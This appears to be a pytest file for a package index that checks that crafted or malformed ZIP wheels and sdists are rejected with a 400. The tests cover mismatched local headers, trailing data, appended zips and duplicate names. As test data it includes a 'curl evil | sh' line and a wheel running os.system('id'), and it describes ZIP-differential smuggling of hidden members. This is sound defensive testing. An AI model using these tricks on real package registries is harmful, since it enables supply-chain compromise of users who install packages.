"""Uploads of zips that two readers would see differently are refused with PyPI's reason, and
hostile zip headers give a 400, never a 500."""

from __future__ import annotations

import hashlib
import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from bastion.archives import Limits
from bastion.packages.models import File
from bastion.upload import distribution
from tests import builders
from tests.archives.zipcraft import RawZip

pytestmark = pytest.mark.django_db(transaction=True)

# bastion's own help page (PyPI names its own), a path while no public URL is set.
ARCHIVES_HELP = "See /help/#archives for more information"


def refused(reason: str) -> str:
    return f"Invalid distribution file. ZIP archive not accepted: {reason}. {ARCHIVES_HELP}"


def assert_refused(response: Any, reason: str) -> None:
    assert response.status_code == 400, response.content
    assert response.reason_phrase == reason
    assert "Traceback" not in response.content.decode()
    assert File.objects.count() == 0


def members(dist: builders.Dist) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(dist.data)) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def crafted(
    dist: builders.Dist, edit: Callable[[RawZip], None]
) -> tuple[bytes, list[tuple[str, str]]]:
    """The wheel's members (RECORD right) written record by record, then edited."""
    raw = RawZip.of(members(dist))
    edit(raw)
    data = raw.build()
    return data, dist.form(sha256_digest=hashlib.sha256(data).hexdigest())


def _index(raw: RawZip, name: str) -> int:
    return [c.name for c in raw.centrals].index(name.encode())


def test_crafted_but_consistent_wheel_is_accepted(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0")
    data, fields = crafted(dist, lambda raw: None)
    assert upload(dist, token, fields=fields, data=data).status_code == 200


def test_local_header_naming_another_member_is_refused(upload: Any, token: str) -> None:
    """The review's wheel: the central directory (zipfile, pip) lists __init__.py, the local
    header (streaming readers) says __evil__.py. It was accepted and published."""
    dist = builders.wheel("samplepkg", "1.0")

    def edit(raw: RawZip) -> None:
        raw.locals[_index(raw, "samplepkg/__init__.py")].name = b"samplepkg/__evil__.py"

    data, fields = crafted(dist, edit)
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, refused("Filename not in central directory"))


def test_trailing_data_is_refused(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0")
    data = dist.data + b"#!/bin/sh\ncurl evil | sh\n"
    fields = dist.form(sha256_digest=hashlib.sha256(data).hexdigest())
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, refused("Trailing data"))


def test_second_end_record_is_refused(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0")
    end = dist.data[-22:]
    assert end.startswith(b"PK\x05\x06")
    data = dist.data + end
    fields = dist.form(sha256_digest=hashlib.sha256(data).hexdigest())
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, refused("Trailing data"))


def test_end_record_hidden_in_the_comment_is_refused(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0")
    data, fields = crafted(dist, lambda raw: setattr(raw, "comment", dist.data[-22:]))
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, refused("Multiple end of central directory records"))


def test_appended_second_zip_is_refused(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0")
    evil = builders.wheel("samplepkg", "1.0", code="import os\nos.system('id')\n")
    data = dist.data + evil.data
    fields = dist.form(sha256_digest=hashlib.sha256(data).hexdigest())
    response = upload(dist, token, fields=fields, data=data)
    assert response.status_code == 400
    assert response.reason_phrase.startswith("Invalid distribution file. ZIP archive not accepted")
    assert File.objects.count() == 0


def test_duplicate_names_are_refused(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0")

    def edit(raw: RawZip) -> None:
        i = _index(raw, "samplepkg/__init__.py")
        evil = RawZip.of({"samplepkg/__init__.py": b"import os\n"})
        raw.locals.insert(i + 1, evil.locals[0])
        raw.centrals.insert(i + 1, evil.centrals[0])

    data, fields = crafted(dist, edit)
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, refused("Duplicate filename in local headers"))


def test_size_mismatch_between_local_header_and_directory_is_refused(
    upload: Any, token: str
) -> None:
    dist = builders.wheel("samplepkg", "1.0")

    def edit(raw: RawZip) -> None:
        raw.locals[_index(raw, "samplepkg/__init__.py")].size += 7

    data, fields = crafted(dist, edit)
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, refused("Mis-matched file size"))


class _Unseekable(io.RawIOBase):
    """A pipe: zipfile then writes data descriptors after each member."""

    def __init__(self) -> None:
        self.buffer = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.buffer += bytes(data)
        return len(data)


def test_data_descriptors_are_refused(upload: Any, token: str) -> None:
    """What a streaming zip writer produces; wheel builders never do (PyPI refuses too)."""
    dist = builders.wheel("samplepkg", "1.0")
    sink = _Unseekable()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as zf:  # type: ignore[arg-type]
        for name, content in members(dist).items():
            zf.writestr(name, content)
    data = bytes(sink.buffer)
    fields = dist.form(sha256_digest=hashlib.sha256(data).hexdigest())
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, refused("ZIP contains a data descriptor"))


def test_unsupported_version_needed_is_a_400(upload: Any, token: str) -> None:
    """zipfile raised NotImplementedError on opening it: the upload answered 500."""
    dist = builders.wheel("samplepkg", "1.0")

    def edit(raw: RawZip) -> None:
        raw.centrals[0].version = 99

    data, fields = crafted(dist, edit)
    response = upload(dist, token, fields=fields, data=data)
    assert_refused(response, "Invalid distribution file. File is not a zipfile")


def test_member_offset_beyond_the_file_is_a_400(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0")

    def edit(raw: RawZip) -> None:
        raw.centrals[_index(raw, "samplepkg/__init__.py")].offset = 10**9

    data, fields = crafted(dist, edit)
    response = upload(dist, token, fields=fields, data=data)
    assert response.status_code == 400
    assert response.reason_phrase.startswith("Invalid distribution file.")
    assert File.objects.count() == 0


def test_zip_sdist_goes_through_the_same_check() -> None:
    """A .zip sdist (accepted when BASTION_STRICT_SDIST_FILENAMES is off) is a zip like any."""
    files = {
        "samplepkg-1.0/PKG-INFO": builders.metadata_text("samplepkg", "1.0").encode(),
        "samplepkg-1.0/samplepkg/__init__.py": b"VALUE = 1\n",
    }
    clean = RawZip.of(files).build()
    inspected = distribution.inspect(io.BytesIO(clean), "samplepkg-1.0.zip", "sdist", Limits())
    assert inspected.metadata_kind == "PKG-INFO"
    raw = RawZip.of(files)
    raw.locals[1].name = b"samplepkg-1.0/samplepkg/__evil__.py"
    with pytest.raises(distribution.DistributionError) as exc:
        distribution.inspect(io.BytesIO(raw.build()), "samplepkg-1.0.zip", "sdist", Limits())
    assert str(exc.value) == refused("Filename not in central directory")
